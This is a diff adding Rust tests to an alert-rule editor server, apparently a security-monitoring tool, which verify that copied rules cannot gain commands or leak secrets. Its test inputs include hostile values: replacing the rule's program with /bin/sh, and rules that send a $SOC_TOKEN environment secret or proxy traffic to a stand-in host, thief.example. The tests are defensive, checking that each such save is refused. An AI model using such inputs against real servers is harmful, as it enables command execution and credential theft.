@@ -191,3 +191,77 @@ fn a_save_without_an_edit_changes_nothing_of_the_rule() {
     assert_eq!(s.save("/api/rules/win/Logon%20failures", &format!("{sent}generate_kibana_discover_url: true\n")).status, 200);
     assert!(read(&w.read("rules/win/Logon failures.yaml")).get("slack_attach_kibana_discover_url").is_none());
 }
+
+/// What the form knows of a rule that starts a program and sends a variable of the server's environment.
+const STARTS: &str = "command:\n  - \"/usr/local/bin/page\"\n  - \"%(user.name)s\"\nhttp_post_url:\n  - \"http://soc.example.com/x\"\n";
+
+/// A stored rule that starts a program, names a file and sends a variable of the server's environment, and a server with that
+/// variable.
+fn trusted() -> (Workspace, Served) {
+    let w = Workspace::new();
+    let own = "command: [/usr/local/bin/page, '%(user.name)s']\nhttp_post_url: ['http://soc.example.com/x']\n\
+               http_post_headers: {Authorization: 'Bearer $SOC_TOKEN'}\nca_certs: /etc/soc/ca.pem\n";
+    w.write("rules/win/Logon failures.yaml", STORED.replace("[hivealerter, slack]", "[hivealerter, slack, command, post]") + own);
+    let s = Served::start_with(&w, &[], &[("SOC_TOKEN", "canary")]);
+    assert_eq!(s.get("/api/rules/win/Logon%20failures").status, 200);
+    (w, s)
+}
+
+fn trusted_form(name: &str, folder: &str) -> String {
+    form(name, folder).replace("  - \"slack\"\n", "  - \"slack\"\n  - \"command\"\n  - \"post\"\n") + STARTS
+}
+
+#[test]
+fn a_copy_keeps_the_program_the_file_and_the_variable_of_the_stored_rule() {
+    let (w, s) = trusted();
+    create(&s, "win/Logon%20failures%20(1)", &trusted_form("Logon failures (1)", "win"));
+    let stored = read(&w.read("rules/win/Logon failures.yaml"));
+    let copy = read(&w.read("rules/win/Logon failures (1).yaml"));
+    for key in ["command", "http_post_url", "http_post_headers", "ca_certs", "tags", "filter", "alert"] {
+        assert_eq!(copy[key], stored[key], "{key}");
+    }
+    // Renamed and moved, too.
+    create(&s, "a/b/Logon%20failures", &trusted_form("Logon failures", "a/b"));
+    assert_eq!(read(&w.read("rules/a/b/Logon failures.yaml"))["http_post_headers"], stored["http_post_headers"]);
+}
+
+#[test]
+fn a_copy_gets_no_more_than_the_stored_rule_has() {
+    let (w, s) = trusted();
+    let good = trusted_form("copy", "win");
+    for (bad, kind) in [
+        (good.replace("/usr/local/bin/page", "/bin/sh"), "commandRefused"),
+        (good.replace("%(user.name)s", "%(source.ip)s"), "commandRefused"),
+        (good.clone() + "pipe_match_json: true\nhttp_post_headers:\n  a: \"$SOC_TOKEN\"\n", "commandRefused"),
+        // Without the program it is a rule like any other, and takes nothing over.
+        (form("copy", "win") + "http_post_headers:\n  a: \"$SOC_TOKEN\"\nhttp_post_url: \"http://thief.example\"\n", "secretRefused"),
+    ] {
+        let answer = s.save("/api/rules/win/copy", &bad);
+        assert_eq!((answer.status, answer.json()["error"].as_str()), (403, Some(kind)), "{bad}: {answer:?}");
+        assert!(!w.path("rules/win/copy.yaml").exists() && !answer.body.contains("canary"), "{answer:?}");
+    }
+    // To another host the variable does not go, neither from a copy nor from the rule itself.
+    let elsewhere = good.replace("soc.example.com/x", "thief.example/x");
+    let answer = s.save("/api/rules/win/copy", &elsewhere);
+    assert_eq!(answer.status, 403, "{answer:?}");
+    let own = trusted_form("Logon failures", "win").replace("soc.example.com/x", "thief.example/x");
+    let answer = s.save("/api/rules/win/Logon%20failures", &own);
+    assert_eq!((answer.status, answer.json()["error"].as_str()), (403, Some("secretRefused")), "{answer:?}");
+    // Another import of the client's own may not lead it elsewhere.
+    assert_eq!(s.save("/api/rules/win/lead.yaml", "http_post_proxy: http://thief.example\n").status, 200);
+    let led = good.replace("../BaseRule.config", "lead.yaml");
+    let answer = s.save("/api/rules/win/copy", &led);
+    let copied = w.path("rules/win/copy.yaml").exists().then(|| read(&w.read("rules/win/copy.yaml")));
+    assert!(answer.status == 403 || copied.is_some_and(|c| c["import"] == json!(["BaseRule.config", "shared.config"])), "{answer:?}");
+}
+
+#[test]
+fn a_file_beside_a_rule_is_another_one_in_another_folder() {
+    let w = Workspace::new();
+    w.write("rules/win/Logon failures.yaml", STORED.to_owned() + "ca_certs: ca.pem\n");
+    let s = Served::start(&w, &[]);
+    assert_eq!(s.get("/api/rules/win/Logon%20failures").status, 200);
+    let answer = s.save("/api/rules/mac/Logon%20failures", &form("Logon failures", "mac"));
+    assert_eq!((answer.status, answer.json()["error"].as_str()), (403, Some("fileRefused")), "{answer:?}");
+    create(&s, "win/Logon%20failures%20(1)", &form("Logon failures (1)", "win"));
+}
